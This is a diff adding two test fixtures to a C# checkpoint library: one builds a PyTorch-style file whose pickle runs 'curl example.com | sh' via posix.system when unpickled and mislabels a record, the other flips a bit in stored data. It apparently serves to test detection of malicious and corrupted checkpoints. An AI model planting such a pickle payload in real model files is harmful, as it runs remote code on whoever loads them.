@@ -106,6 +106,33 @@ internal static class Samples
         return layers;
     }
 
+    /// <summary>A checkpoint that runs a command when Python unpickles it, and a record that says other than its header.</summary>
+    internal static string Evil(TemporaryFolder folder)
+    {
+        var path = Path.Combine(folder.Path, "evil.pt");
+        var call = new PyObject(PyObjectKind.Call, new PyGlobal("posix", "system"), new PyTuple("curl example.com | sh"));
+        Checkpoint.Save(new PyDict { { "weight", TensorView.FromArray(new float[2], ElementType.Float32, 2) }, { "hook", call }, { "net", new PyObject(PyObjectKind.New, new PyGlobal("models", "Net"), PyTuple.Empty) } }, path);
+
+        // The first letter of the record's name, in front of its bytes alone.
+        var bytes = File.ReadAllBytes(path);
+        bytes[bytes.AsSpan().IndexOf("evil/version"u8)] = (byte)'E';
+        File.WriteAllBytes(path, bytes);
+        return path;
+    }
+
+    /// <summary>The checkpoint with one bit of its first storage flipped.</summary>
+    internal static string Damaged(TemporaryFolder folder)
+    {
+        var path = Path.Combine(folder.Path, "damaged.pt");
+        Checkpoint.Save(Training(), path);
+        var bytes = File.ReadAllBytes(path);
+        var record = "damaged/data/0"u8;
+        var name = bytes.AsSpan().IndexOf(record);
+        bytes[name + record.Length + BitConverter.ToUInt16(bytes, name - 2)] ^= 1;
+        File.WriteAllBytes(path, bytes);
+        return path;
+    }
+
     internal static PySet SetOf(params ReadOnlySpan<PyValue> items)
     {
         var set = new PySet();
